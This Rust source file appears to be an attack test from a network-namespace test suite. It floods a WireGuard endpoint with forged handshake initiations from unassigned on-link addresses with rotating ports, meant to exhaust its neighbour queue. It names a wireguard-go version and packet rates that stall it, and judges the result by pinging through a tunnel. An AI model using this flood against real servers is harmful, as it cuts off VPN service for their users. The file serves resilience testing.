//! Initiations from on-link addresses that nobody has: each answer waits in the target's neighbour queue and fills its
//! send buffer. Stock wireguard-go 0.0.20220316 stands still under 3,000 a second from 250 such sources.
//!
//! Who forges an address hears nothing: whether the target stands still is seen at a tunnel. Given the keys of a peer, the
//! attack has one and pings through it all the while; without, it decides nothing.

use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::process::ExitCode;
use std::time::Duration;

use warren_netns_tests::attack::args::{Args, fail};
use warren_netns_tests::attack::forge::{Forger, nth};
use warren_netns_tests::attack::inner::icmp;
use warren_netns_tests::attack::knock::{Key, Noise, initiation};
use warren_netns_tests::attack::pace::pace;
use warren_netns_tests::attack::rogue::{Keys, Rogue};
use warren_netns_tests::attack::verdict::{undecided, verdict};

const USAGE: &str = "attack-unresolvable --target IP:PORT --key BASE64[,BASE64] --from FIRST-ON-LINK-ADDRESS [--sources 250] [--rate 3000] \
                     [--seconds 5] [--private BASE64[,BASE64] --me OVERLAY-IP --to OVERLAY-IP: a tunnel to ping through]";

/// Pings a second.
const PINGS: u64 = 50;

/// A tunnel, and what comes back through it.
struct Tunnel {
    rogue: Rogue,
    me: Ipv4Addr,
    to: Ipv4Addr,
    sent: u64,
}

impl Tunnel {
    fn of(args: &Args, target: SocketAddrV4) -> Option<Tunnel> {
        let private: Keys = args.maybe("private")?;
        let (me, to, key) = (args.need("me"), args.need("to"), args.need::<Keys>("key"));
        let no_tunnel = |e: std::io::Error| -> ! { fail(USAGE, &format!("no tunnel: {e}")) };
        let rogue = Rogue::connect(SocketAddr::V4(target), private, &key).unwrap_or_else(|e| no_tunnel(e));
        let mut tunnel = Tunnel { rogue, me, to, sent: 0 };
        tunnel.ping();
        let answered = tunnel.rogue.hear(Duration::from_secs(3), is_answer);
        if !answered.unwrap_or_else(|e| no_tunnel(e)) {
            fail(USAGE, "the tunnel carries no ping");
        }
        Some(tunnel)
    }

    fn ping(&mut self) {
        let ping = icmp(self.me, self.to, 8, 0, &self.sent.to_be_bytes());
        let _ = self.rogue.send(&ping);
        self.sent += 1;
        let _ = self.rogue.drain();
    }

    /// Pings that were answered, each counted once.
    fn answered(&mut self) -> u64 {
        let _ = self.rogue.listen(Duration::from_secs(1));
        let answers = self.rogue.heard.iter().filter(|packet| is_answer(packet));
        answers.filter_map(|packet| packet.get(28..36)).collect::<std::collections::BTreeSet<_>>().len()
            as u64
    }
}

fn is_answer(packet: &[u8]) -> bool {
    packet.first() == Some(&0x45) && packet.get(9) == Some(&1) && packet.get(20) == Some(&0)
}

fn main() -> ExitCode {
    let args = Args::parse(USAGE);
    let target: SocketAddrV4 = args.need("target");
    let keys: String = args.need("key");
    let from: Ipv4Addr = args.need("from");
    let first = keys.split(',').next().unwrap_or_default();
    let key: Key = first.parse().unwrap_or_else(|e: String| fail(USAGE, &format!("--key: {e}")));
    let (sources, rate, seconds) = (args.or("sources", 250), args.or("rate", 3000), args.or("seconds", 5));
    let forger = Forger::new().unwrap_or_else(|e| fail(USAGE, &format!("no raw socket: {e}")));
    let mut tunnel = Tunnel::of(&args, target);
    let mut noise = Noise(2);
    let mut sent = 0u64;
    pace(rate, seconds, |i| {
        let message = initiation(&key, &mut noise, true, i as u32);
        // The port changes too, so that no limit per source and port hides what is asked here.
        let source = SocketAddrV4::new(nth(from, i, sources), 1024 + (i % 50_000) as u16);
        sent += u64::from(forger.udp(source, target, &message).is_ok());
        if let Some(tunnel) = tunnel.as_mut().filter(|_| i.is_multiple_of((rate / PINGS).max(1))) {
            tunnel.ping();
        }
    });
    let what = format!("{sent} initiations from {sources} unresolvable sources sent");
    let is_whole = sent >= rate * seconds / 2;
    match tunnel {
        Some(mut tunnel) => {
            let (pings, answered) = (tunnel.sent, tunnel.answered());
            let is_alive = (pings - answered) * 100 < pings;
            verdict(
                is_whole && is_alive,
                &format!("{what}; {answered} of {pings} pings beside them answered"),
            )
        }
        None => undecided(&format!("{what}; no tunnel was given to watch")),
    }
}
